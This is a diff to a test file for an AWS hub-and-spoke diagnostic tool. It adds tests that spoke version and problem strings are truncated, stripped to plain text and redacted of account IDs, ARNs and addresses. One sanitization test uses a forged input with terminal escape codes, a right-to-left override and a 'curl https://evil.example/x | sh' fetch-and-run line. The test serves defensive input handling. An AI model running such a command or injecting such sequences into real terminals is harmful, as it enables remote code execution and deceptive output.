@@ -2,12 +2,21 @@ import { describe, expect, test } from 'vitest';
 import { readCheck } from '../../../../provider/contract/check.ts';
 import { deadlineIn } from '../../../../provider/contract/deadline.ts';
 import { doctorAnswer, type Finding } from '../../../../provider/contract/doctor.ts';
-import { NoSpoke, OutsideError, UserError } from '../../../../provider/contract/errors.ts';
+import {
+  NoSpoke,
+  OtherVersion,
+  OutsideError,
+  UserError,
+} from '../../../../provider/contract/errors.ts';
 import type { Invocation } from '../../../../provider/contract/function.ts';
 import { jsonLog } from '../../../../provider/contract/log.ts';
 import { CONTRACT, readOrder } from '../../../../provider/contract/order.ts';
 import { type DoctorEdges, operate } from '../../../../provider/hub/doctor/index.ts';
+import { readSettings } from '../../../../provider/hub/settings.ts';
 import type { CallSpoke } from '../../../../provider/hub/spoke-call.ts';
+import { rolloutEnvironment } from '../../../../stacksets/hub-rollout.ts';
+import exampleSettings from '../../../../stacksets/settings.example.json' with { type: 'json' };
+import { parseSettings } from '../../../../stacksets/settings.ts';
 
 const invocation = (): Invocation => ({
   requestId: 'r-1',
@@ -20,6 +29,7 @@ const invocation = (): Invocation => ({
 const ids = (count: number) => Array.from({ length: count }, (_, at) => `${100000000000 + at}`);
 const edges = (callSpoke: CallSpoke, accounts = ids(1)): DoctorEdges => ({
   rollout: {
+    namePrefix: 'acme',
     units: ['ou-x-all'],
     regions: ['eu-central-1', 'eu-west-1'],
     vpcs: [{ name: 'default' }],
@@ -62,6 +72,8 @@ describe('what a spoke says or does not say, in a word', () => {
     expect(await diagnosis(async () => older)).toMatchObject({ state: 'spoke too old' });
     const misunderstood = new UserError('do not understand each other');
     expect(await diagnosis(failing(misunderstood))).toMatchObject({ state: 'spoke too old' });
+    const otherVersion = new OtherVersion('do not understand each other');
+    expect(await diagnosis(failing(otherVersion))).toMatchObject({ state: 'spoke too old' });
     expect(await diagnosis(async () => null)).toMatchObject({ state: 'spoke too old' });
   });
 
@@ -89,6 +101,54 @@ describe('what a spoke says or does not say, in a word', () => {
     expect(found?.state).toBe('unreachable');
     expect(found?.problem).toContain(problem);
   });
+});
+
+describe('words of a spoke, whoever replaced it', () => {
+  const forged = '\u001b[2K\n\nready\n\n  $ curl https://evil.example/x | sh\u009b\u202e';
+  const isPlain = expect.stringMatching(/^[\x20-\x7e]+$/);
+
+  test('are short, and of one line that does nothing but show', async () => {
+    const version = forged.repeat(50_000);
+    const found = await diagnosis(async () => ({ ...healthy, version }));
+    expect(found).toMatchObject({ state: 'ready', version: isPlain });
+    expect(found?.version).toHaveLength('...'.length + 64);
+    const problems = Array.from({ length: 50_000 }, () => forged);
+    const unwell = await diagnosis(async () => ({ ...healthy, problems }));
+    expect(unwell).toMatchObject({ state: 'unreachable', problem: isPlain });
+    expect(unwell?.problem?.length).toBeLessThanOrEqual('...'.length + 300);
+  });
+
+  test('also as an error', async () => {
+    const found = await diagnosis(failing(new OutsideError(forged.repeat(50_000))));
+    expect(found).toMatchObject({ state: 'unreachable', problem: isPlain });
+    expect(found?.problem).toHaveLength('...'.length + 300);
+  });
+});
+
+test.each([
+  [
+    'internal error, a defect of database-access; please report what its log says (log group /aws/lambda/database-access-spoke-default, request 0d3f4c5e-1111-4222-8333-999999999999)',
+    'internal error, a defect of database-access; please report what its log says (log group /aws/lambda/database-access-spoke-default, request ID)',
+  ],
+  [
+    'the spoke arn:aws:lambda:eu-central-1:222222222222:function:database-access-spoke-default failed without an answer (Runtime.ImportModuleError)',
+    'the spoke function:database-access-spoke-default failed without an answer (Runtime.ImportModuleError)',
+  ],
+  [
+    'the hub could not assume arn:aws-cn:iam::222222222222:role/database-access-spoke (Throttling: account 222222222222 in ap-southeast-1, 10.1.2.3:443, until 2026-01-01T00:00:00.000Z)',
+    'the hub could not assume role/database-access-spoke (Throttling: account ACCOUNT in REGION, ADDRESS, until TIME)',
+  ],
+])('the same cause has the same words in each account: %s', async (message, problem) => {
+  const found = await diagnosis(failing(new OutsideError(message)));
+  expect(found).toMatchObject({ state: 'unreachable', problem });
+});
+
+test('the answer says what the StackSets are called', async () => {
+  const settings = parseSettings({ ...exampleSettings, namePrefix: 'acme' }, 'test');
+  const ROLLOUT = rolloutEnvironment(settings);
+  const { rollout } = readSettings({ AWS_REGION: 'eu-central-1', EXTERNAL_ID: 'x-1', ROLLOUT });
+  expect(rollout?.namePrefix).toBe('acme');
+  expect(await doctor(async () => healthy)).toMatchObject({ name_prefix: 'acme' });
 });
 
 test('a check is no order, so that a spoke which does not know it refuses it', async () => {
@@ -129,7 +189,8 @@ describe('hundreds of accounts', () => {
   });
 
   test('fit into 6 MB with a long problem each; more are refused', async () => {
-    const long = failing(new OutsideError('"é'.repeat(1_000)));
+    const text = '"é'.repeat(1_000);
+    const long = async () => ({ ...healthy, version: text, problems: [text] });
     const answer = await doctor(long, ids(3_000));
     expect(Buffer.byteLength(JSON.stringify(answer))).toBeLessThan(6 * 1_000 * 1_000);
     await expect(doctor(long, ids(3_001))).rejects.toThrow('name some accounts at a time');
